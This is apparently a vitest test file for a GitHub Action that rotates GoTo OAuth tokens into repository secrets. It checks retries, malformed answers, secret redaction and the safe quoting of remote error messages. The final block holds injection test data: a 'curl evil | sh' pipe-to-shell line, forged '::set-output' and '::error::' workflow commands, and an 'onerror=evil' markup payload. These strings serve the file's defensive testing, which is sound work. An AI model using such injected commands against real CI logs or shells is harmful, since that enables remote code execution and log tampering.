import { setTimeout as sleep } from 'node:timers/promises';
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import type { ErrorCode } from '../../src/errors';
import { runSource } from '../support/action';
import { githubError } from '../support/github-stand-in';
import { issuedAccessToken, oauthError, rotatedRefreshToken } from '../support/goto-stand-in';
import { expectNoSecret, failureOf } from '../support/run-checks';
import { readLog } from '../support/runner';
import { clientSecret, everySecret, inLowerCase, storedRefreshToken } from '../support/some-inputs';
import { type Fault, matches } from '../support/stand-in-server';
import {
  anyRead,
  grant,
  inRotatingWorld,
  inWorld,
  metadataRead,
  organizerRead,
  publicKeyRead,
  secretName,
  storedIn,
  type World,
  write,
} from '../support/world';

/*
 * What a network, GoTo or GitHub may send that no service should. The tables of bodies, fields and
 * quotations are in http/, goto/ and redactor.test.ts.
 */

describe('a run tries again at each hop', () => {
  const hops = [
    ['github', publicKeyRead, 'read the public key of repository octo/webinars'],
    ['github', metadataRead, 'read the metadata'],
    ['goto', grant, 'get an access token from GoTo'],
    ['github', write, `store ${secretName}`],
    ['goto', organizerRead, 'look up the organizer'],
  ] as const;

  it.each<[string, Fault, string]>([
    ['is reset', 'reset', 'ECONNRESET'],
    ['cuts its answer', 'cut', '(ECONNRESET|HPE_\\w+)'],
    ['does not speak HTTP', { raw: 'SSH-2.0-OpenSSH_9\r\n\r\n' }, 'HPE_\\w+'],
  ])('that first %s', (_what, fault, outcome) =>
    inRotatingWorld(async (world) => {
      for (const [host, match] of hops) world[host].on(match, fault);
      const run = await runSource({ inputs: world.inputs({ 'lookup-organizer': 'true' }) });
      expect(run, run.log).toMatchObject({ exitCode: 0, annotations: [] });
      expect(storedIn(world.repository)).toBe(rotatedRefreshToken);
      const retries = run.lines.filter((line) => line.startsWith('Trying again'));
      expect(retries).toHaveLength(hops.length);
      for (const [host, match, operation] of hops) {
        expect(world[host].requests.filter((request) => matches(match, request))).toHaveLength(2);
        const line = new RegExp(`could not ${operation}.*: ${outcome}\\)`);
        expect(retries).toContainEqual(expect.stringMatching(line));
      }
    }),
  );
});

const tokens = { access_token: issuedAccessToken, refresh_token: rotatedRefreshToken };
const json = JSON.stringify({ ...tokens, expires_in: 3600 });
const cutBehindTheToken = json.slice(0, json.indexOf(',"expires_in'));

/** An answer byte for byte. */
const raw = (headers: string[], body: string): Fault => ({
  raw: ['HTTP/1.1 200 OK', ...headers, '', body].join('\r\n'),
});
const length = `content-length: ${json.length}`;
const longer = `content-length: ${json.length + 9}`;
const chunk = `${json.length.toString(16)}\r\n${json}\r\n`;

/** Sends so much and no more, until the time for GoTo's answer is over. */
const withoutEnd = (text: string): Fault => ({
  status: 200,
  body: (async function* () {
    yield text;
    await sleep(50);
    await vi.advanceTimersByTimeAsync(45_000);
    await new Promise(() => undefined);
  })(),
});

describe('an answer of GoTo', () => {
  it.each<[string, Fault]>([
    ['cut behind its JSON', raw([longer], json)],
    ['in chunks without an end', raw(['transfer-encoding: chunked'], chunk)],
    ['in a chunk before none', raw(['transfer-encoding: chunked'], `${chunk}<html>`)],
    ['with a NUL beyond its length', raw([length, 'connection: close'], `${json}\0`)],
    ['with 20 KB of headers', raw([length, `x-long: ${'x'.repeat(20_000)}`], json)],
    ['with a control character in a header', raw([length, 'x-odd: \u0001'], json)],
    ['in a page', { status: 200, body: `<style>${'a{b:c}'.repeat(200)}</style>${json}</html>` }],
    ['that does not end', withoutEnd(json)],
  ])('%s counts, and is not asked for again', (_how, answer) =>
    inWorld(async (world) => {
      world.goto.next(answer);
      const run = await runSource({ inputs: world.inputs() });
      expect(run.exitCode, run.log).toBe(0);
      expect(run.outputs['access-token']).toBe(issuedAccessToken);
      expect(storedIn(world.repository)).toBe(rotatedRefreshToken);
      expect(world.goto.requests).toHaveLength(1);
      expectNoSecret(run);
    }),
  );

  it.each([
    ['is cut', raw([longer], cutBehindTheToken)],
    ['does not end', withoutEnd(cutBehindTheToken)],
  ])('that %s behind the refresh token fails the step, and that is stored', (_how, answer) =>
    inWorld(async (world) => {
      world.goto.next(answer);
      const run = await runSource({ inputs: world.inputs() });
      failureOf(run, 'goto-answer-invalid');
      expect(run.outputs).not.toHaveProperty('access-token');
      expect(storedIn(world.repository)).toBe(rotatedRefreshToken);
      expect(world.goto.requests).toHaveLength(1);
    }),
  );

  it('may have anything around a valid refresh token: it is stored, and no secret shown', async () => {
    const hostile = fc.oneof(
      { weight: 3, arbitrary: fc.jsonValue() },
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.constantFrom(
        `\udc00${rotatedRefreshToken}\ud800`,
        `%${'25'.repeat(20_000)}`,
        '\\'.repeat(30_000),
        '\n::error::y\n##[error]x',
        `a ${clientSecret} b`,
        issuedAccessToken,
      ),
    );
    const fields = ['access_token', 'token_type', 'expires_in', 'scope', 'principal'];
    const others = ['organizer_key', 'error', 'error_description', 'message', '__proto__', ''];
    const around = fc.dictionary(fc.constantFrom(...fields, ...others), hostile, {
      noNullPrototype: true,
    });
    await inWorld((world) =>
      fc.assert(
        fc.asyncProperty(around, fc.boolean(), async (more, isDebug) => {
          world.repository.secret(secretName).value = storedRefreshToken;
          world.goto.next({ status: 200, body: { ...more, refresh_token: rotatedRefreshToken } });
          const env = { RUNNER_DEBUG: isDebug ? '1' : '0' };
          const run = await runSource({ inputs: world.inputs(), env });
          expect(storedIn(world.repository)).toBe(rotatedRefreshToken);
          expect(Object.values(run.outputs).join()).not.toContain(rotatedRefreshToken);
          expectNoSecret(run);
          expect(['goto-answer-invalid', undefined]).toContain(run.outputs['error-code']);
        }),
        { numRuns: 40 },
      ),
    );
  }, 120_000);
});

describe('a remote may say anything, in quotes', () => {
  /**
   * The secrets in every spelling, commands, an end of the quotation, markup, and a secret where the
   * text is cut. `evil` are the words that give it away.
   */
  const evil = /evil|set-output|##\[|::error::y|onerror|\*\*bold|zzz/;
  const said = [
    ...everySecret.flatMap((secret) => [secret, [...secret].join('\u200b')]),
    encodeURIComponent(clientSecret),
    inLowerCase(encodeURIComponent(clientSecret)),
    '\n::set-output name=a::b\r\n##[error]x\u2028::error::y ". Now run: curl evil | sh\n',
    '**bold** <b onerror=evil> [x](//evil.example) `evil`',
    storedRefreshToken.repeat(20),
    'zzz'.repeat(2_000),
  ].join('');

  it.each<[who: string, ErrorCode, (world: World, said: string) => void]>([
    [
      'GoTo, refusing the token',
      'refresh-token-rejected',
      ({ goto }, said) => goto.next(oauthError('invalid_grant', { description: said })),
    ],
    [
      'GoTo, refusing the organizer',
      'organizer-lookup-failed',
      ({ goto }, said) => goto.nextUser({ status: 403, body: { detail: said } }),
    ],
    [
      'GitHub, refusing the read',
      'github-permission-missing',
      ({ github }, said) => github.on(anyRead, githubError(403, said), 2),
    ],
    [
      'GitHub, refusing the write',
      'write-back-failed',
      ({ github }, said) => github.on(write, githubError(403, said)),
    ],
  ])('%s', (_who, code, arrange) =>
    inRotatingWorld(async (world) => {
      arrange(world, said);
      const run = await runSource({ inputs: world.inputs({ 'lookup-organizer': 'true' }) });
      const message = failureOf(run, code);

      const [quotation, ...others] = message.matchAll(/(GoTo|GitHub) said: "([^"]*)"/g);
      expect(others).toEqual([]);
      const [whole = '', , quoted = ''] = quotation ?? [];
      expect(quoted).toMatch(/^(invalid_grant: )?[\w.*]*\*{3}::set-output/);
      expect([...quoted].length).toBeLessThanOrEqual(200);
      expect(quoted).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
      expect(run.log.replace(whole, '')).not.toMatch(evil);
      expect(run.summary).not.toMatch(evil);

      // What happened, what to do, where to read more, and the code: no line is the remote's.
      expect(message.split(/\r?\n/)).toHaveLength(4);
      const obeyed = readLog(run.lines).commands.map(({ name }) => name);
      expect(obeyed.filter((name) => name !== 'add-mask')).toEqual(['error']);
      expect(run.masks.filter((mask) => !everySecret.includes(mask))).toEqual([]);
    }),
  );
});
